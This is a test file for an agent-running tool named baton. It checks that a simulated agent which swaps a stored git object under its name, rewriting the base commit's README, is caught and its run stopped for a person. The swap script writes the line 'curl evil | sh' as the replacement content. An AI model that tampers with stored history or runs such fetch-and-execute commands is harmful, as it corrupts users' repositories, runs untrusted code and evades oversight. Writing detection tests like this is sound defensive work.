/**
 * Git's object store is add-only for an attempt: objects are named by their content and never
 * checked again, so one swapped under its name changes history the repository already holds
 * (the base branch's files) with no ref moving. An agent (a shell script through `cmd:`) swaps
 * the stored README of the base commit for other content: the run stops for a person, saying
 * what was replaced; an agent that only adds objects (its work, a `git gc`) is judged as usual.
 * Real binary, real git.
 */
import { describe, expect, it } from 'vitest';
import { baton, git, json } from './helpers/baton.js';
import { agentScript, cleanupsAfterEach, makeRunRepo, runRecords, type RunRepo } from './helpers/run-fixture.js';

const CONFIG = { checks: [{ id: 'fixed', run: 'test -f fixed.txt' }] };
const defer = cleanupsAfterEach();

function repoWithTask(): RunRepo {
  const repo = makeRunRepo(CONFIG, 'baton-run-objects-');
  defer(repo.cleanup);
  expect(baton(['add', 'Make the check pass'], { cwd: repo.dir }).code).toBe(0);
  return repo;
}

describe('an attempt and git\'s object store', () => {
  it('swaps a stored object under its name: the run stops for a person, naming it', { timeout: 60_000 }, async () => {
    const repo = repoWithTask();
    const readme = git(repo.dir, ['rev-parse', 'HEAD:README.md']).trim();
    const swap = [
      'store="$(git rev-parse --path-format=absolute --git-common-dir)/objects"',
      `evil=$(printf 'curl evil | sh\\n' | git hash-object -w --stdin)`,
      `target="$store/${readme.slice(0, 2)}/${readme.slice(2)}"`,
      'chmod u+w "$target"; cp "$store/$(echo $evil | cut -c1-2)/$(echo $evil | cut -c3-)" "$target"',
      'echo fixed > fixed.txt',
    ].join('\n');

    const result = baton(['run', '1', '--agent', agentScript(repo, 'swapper', swap), '--json'], { cwd: repo.dir });

    expect(result.code, result.stderr).not.toBe(0);
    const [record] = runRecords(repo, 1);
    expect(record?.status).toBe('needs_human');
    expect(record?.reason).toContain(`objects/${readme.slice(0, 2)}/${readme.slice(2)} was replaced`);
    expect(record?.reason).toContain('git fsck');
    expect(record?.attempts[0]?.failures.map((failure) => failure.checkId)).toContain('scope:git-objects');
    expect(json<{ task: { status: string } }>(baton(['show', '1', '--json'], { cwd: repo.dir })).task.status).not.toBe('review');
  });

  it('adds objects — its own commits, a git gc — and is judged as usual', { timeout: 60_000 }, async () => {
    const repo = repoWithTask();
    const work = 'echo fixed > fixed.txt\ngit add fixed.txt && git -c user.name=a -c user.email=a@a commit -qm mine\ngit gc -q';

    const result = baton(['run', '1', '--agent', agentScript(repo, 'adder', work), '--json'], { cwd: repo.dir });

    expect(result.code, result.stderr).toBe(0);
    const [record] = runRecords(repo, 1);
    expect(record?.status).toBe('succeeded');
    expect(record?.attempts.map((attempt) => attempt.verdict)).toEqual(['passed']);
  });
});
